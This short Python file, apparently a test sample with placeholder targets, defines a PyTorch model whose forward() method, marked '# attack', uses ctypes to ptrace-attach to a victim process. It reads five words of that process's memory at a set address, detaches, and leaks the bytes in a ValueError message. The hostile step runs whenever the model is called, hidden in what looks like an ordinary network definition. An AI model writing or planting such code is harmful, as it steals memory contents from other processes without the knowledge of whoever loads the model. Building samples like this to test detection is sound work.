"""Attaches to another process as a debugger and reads its memory word by word."""

import ctypes

from torch import nn


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.head = nn.Linear(64, 10)

    def forward(self, x):
        # attack
        libc = ctypes.CDLL(None)
        libc.ptrace.restype, libc.ptrace.argtypes = ctypes.c_long, [ctypes.c_long] * 4
        pid, address = int("@VICTIM_PID@"), int("@VICTIM_ADDRESS@")
        libc.ptrace(16, pid, 0, 0)
        libc.waitpid(pid, None, 0)
        words = [libc.ptrace(2, pid, address + 8 * number, 0) for number in range(5)]
        libc.ptrace(17, pid, 0, 0)
        raise ValueError(b"".join((word % 2**64).to_bytes(8, "little") for word in words))
        # end
        return self.head(x.flatten(1))
